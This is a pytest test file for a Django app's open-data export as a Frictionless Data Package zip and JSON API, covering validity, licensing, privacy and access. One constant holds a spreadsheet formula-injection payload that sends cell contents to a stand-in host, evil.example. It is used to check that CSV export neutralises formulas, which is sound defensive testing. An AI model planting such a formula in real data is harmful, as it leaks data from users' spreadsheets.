"""The open data: a Frictionless Data Package (zip) on the public page, the same as JSON in the API."""

import csv
import io
import json
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from frictionless import Package, system

from assessments.choices import FindingStatus
from assessments.models import Finding
from publication.services import save_publication
from tests.factories import RecommendationFactory
from tests.publication.conftest import COMMENT, DRAFT, ENDORSED, MAB_NAME, VOTE

pytestmark = pytest.mark.django_db

ZIP = "/p/khm-2023/datapackage.zip"
API = "/api/assessments/khm-2023/open-data/"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")\n"quoted", -2+3, @SUM(1)'


def unpack(data, tmp_path):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        archive.extractall(tmp_path)
    return tmp_path / "datapackage.json"


def validate(descriptor_path):
    with system.use_context(trusted=False):
        report = Package(str(descriptor_path)).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    return report


def read_csv(tmp_path, name):
    with open(tmp_path / "data" / f"{name}.csv", newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_the_package_is_valid_and_holds_only_public_results(client, published, tmp_path):
    RecommendationFactory(assessment=published, text=HOSTILE)
    answer = client.get(ZIP)
    assert answer.status_code == 200 and answer["Content-Type"] == "application/zip"
    validate(unpack(answer.content, tmp_path))
    descriptor = json.loads((tmp_path / "datapackage.json").read_text())
    assert descriptor["licenses"][0]["name"] == "CC-BY-4.0"
    assert [r["name"] for r in descriptor["resources"]] == [
        "findings", "sources", "citations", "data_points", "recommendations"
    ]  # fmt: skip
    findings = read_csv(tmp_path, "findings")
    assert len(findings) == Finding.objects.filter(assessment=published, archived=False).count()
    by_status = {f["status"] for f in findings}
    assert FindingStatus.ENDORSED in by_status and FindingStatus.DRAFT in by_status
    endorsed = next(f for f in findings if f["status"] == FindingStatus.ENDORSED)
    assert endorsed["narrative"] == ENDORSED and endorsed["score"] == "4" and endorsed["confidence"] == "high"
    draft = next(f for f in findings if f["status"] == FindingStatus.DRAFT)
    assert draft["narrative"] == "" and draft["score"] == ""
    assert [s["title"] for s in read_csv(tmp_path, "sources")] == ["Digital Government Policy 2022-2035"]
    assert [c["finding"] for c in read_csv(tmp_path, "citations")] == [endorsed["code"]]
    assert [p["value"] for p in read_csv(tmp_path, "data_points")] == ["98.0000"]
    everything = b"".join(
        (tmp_path / "data" / f"{n}.csv").read_bytes()
        for n in ("findings", "sources", "citations", "data_points", "recommendations")
    )
    for private in (COMMENT, VOTE, DRAFT, MAB_NAME, "PRIVATE"):
        assert private.encode() not in everything, private


def test_hostile_text_is_inert_in_the_csv(client, published, tmp_path):
    RecommendationFactory(assessment=published, text=HOSTILE)
    unpack(client.get(ZIP).content, tmp_path)
    texts = [r["text"] for r in read_csv(tmp_path, "recommendations")]
    hostile = next(t for t in texts if "HYPERLINK" in t)
    # Starts with an apostrophe (a spreadsheet shows text, runs no formula); newlines and quotes survive.
    assert hostile == "'" + HOSTILE
    assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)


def test_the_lead_may_open_unendorsed_evidence_and_choose_the_licence(client, published, members, tmp_path):
    save_publication(
        published, by=members["lead"], publish=True, licence="CC0-1.0", choices={"include_unendorsed": True}
    )
    validate(unpack(client.get(ZIP).content, tmp_path))
    assert json.loads((tmp_path / "datapackage.json").read_text())["licenses"][0]["name"] == "CC0-1.0"
    assert DRAFT in [f["narrative"] for f in read_csv(tmp_path, "findings")]
    assert len(read_csv(tmp_path, "sources")) == 2


def test_the_api_serves_the_same_as_json(client, published, tmp_path):
    RecommendationFactory(assessment=published, text=HOSTILE)
    unpack(client.get(ZIP).content, tmp_path)
    package = client.get(API).json()
    # A valid package with its data inline.
    (tmp_path / "inline.json").write_text(json.dumps(package))
    validate(tmp_path / "inline.json")
    resources = {r["name"]: r["data"] for r in package["resources"]}
    for name in resources:
        rows = read_csv(tmp_path, name)
        assert len(resources[name]) == len(rows)
    assert HOSTILE in [r["text"] for r in resources["recommendations"]]  # JSON is not a spreadsheet
    assert [r["code"] for r in resources["findings"]] == [r["code"] for r in read_csv(tmp_path, "findings")]


@pytest.mark.parametrize(
    ("who", "published_status", "unpublished_status"),
    [
        ("anonymous", 200, 404),
        ("outsider", 200, 404),
        ("mab", 200, 200),
        ("staff", 200, 200),
        ("lead", 200, 200),
    ],
)
def test_api_access(client, published, members, who, published_status, unpublished_status):
    """Published: anyone. Unpublished: members only (to see what would be published); others 404."""
    if who != "anonymous":
        client.force_login(members[who])
    assert client.get(API).status_code == published_status
    assert client.post(API, {}, content_type="application/json").status_code == 405
    save_publication(published, by=members["lead"], publish=False)
    assert client.get(API).status_code == unpublished_status
    assert client.get("/api/assessments/nowhere/open-data/").status_code == 404


def test_data_left_out_by_the_lead_is_not_public(client, published, members):
    save_publication(published, by=members["lead"], publish=True, choices={"show_data": False})
    assert client.get(ZIP).status_code == 404
    assert client.get(API).status_code == 404
    client.force_login(members["mab"])
    assert client.get(API).status_code == 200


def zip_queries(client):
    with CaptureQueriesContext(connection) as queries:
        assert client.get(ZIP).status_code == 200
    return len(queries)


def test_query_count_does_not_grow(client, published, members):
    save_publication(published, by=members["lead"], publish=True, choices={"include_unendorsed": True})
    Finding.objects.filter(assessment=published).exclude(indicator__code__in=["R.1.1", "R.1.2"]).update(
        archived=True
    )
    few = zip_queries(client)
    assert few > 0
    Finding.objects.filter(assessment=published).update(archived=False, narrative="Evidence.")
    RecommendationFactory.create_batch(25, assessment=published)
    assert zip_queries(client) == few
